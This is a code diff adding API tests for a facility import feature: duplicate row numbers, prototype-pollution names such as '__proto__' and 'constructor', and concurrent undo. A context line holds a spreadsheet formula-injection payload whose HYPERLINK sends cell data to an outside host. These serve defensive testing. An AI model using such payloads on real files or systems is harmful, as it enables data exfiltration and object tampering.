@@ -96,6 +96,40 @@ test('what the call says around the rows is refused in words, too', async () => 
   }
 });
 
+test('two lines with one number are no way to two records with one key', async () => {
+  const rows = [5, 5].map((row) => ({ row, cells: facility('Numbered') }));
+  const portion = { import: randomUUID(), portion: 0, columns: COLUMNS, key: 'facility_name', rows, file: FILE };
+  for (const path of ['import/check', 'import']) {
+    const { status, body } = await api.call('POST', `/facility/${path}`, { body: portion });
+    assert.equal([status, body.message], [422, 'Row 5 is there twice.']);
+  }
+  assert.is(await count('Numbered'), 0);
+});
+
+test('what prototypes of objects have is no column, no key and no choice', async () => {
+  const call = { portion: 0, columns: COLUMNS, rows: rowsOf([facility('Proto')]), file: FILE };
+  for (const name of ['__proto__', 'constructor', 'toString'])
+    for (const more of [{ columns: [name, ...COLUMNS.slice(1)] }, { key: name }]) {
+      const body = { ...call, import: randomUUID(), ...more };
+      assert.is((await api.call('POST', '/facility/import', { body })).status, 422, name);
+    }
+  const rows = rowsOf([facility('Proto', { status: 'constructor' })]);
+  assert.equal(outcomes((await writePortion(api, '/facility', { columns: COLUMNS, rows })).rows), ['refused']);
+});
+
+test('Undo of one import by several at once takes it back once', async () => {
+  const lines = Array.from({ length: 50 }, (_, at) => facility(`Several ${at}`));
+  const { import: id } = await writePortion(api, '/facility', { columns: COLUMNS, rows: rowsOf(lines) });
+  const undo = (headers?: Record<string, string>) => api.call('POST', `/facility/imports/${id}/undo`, { headers });
+  const key = { 'idempotency-key': randomUUID() };
+  const all = await Promise.all([undo(key), undo(key), undo(), undo()]);
+  assert.equal(new Set(all.map(({ status }) => status)), new Set([200]));
+  const counts = all.map(({ body }) => body.data.undone as number);
+  assert.is(counts[0], counts[1]);
+  assert.is(counts[1]! + counts[2]! + counts[3]!, 50, String(counts));
+  assert.is(await count('Several'), 0);
+});
+
 test('a formula in every cell is text', async () => {
   const text = ['facility_name', 'facility_address', 'zone', 'block', 'row', 'shelf'];
   const over = Object.fromEntries(text.map((name) => [name, `=HYPERLINK("http://x/?"&A1,"${name}")`]));
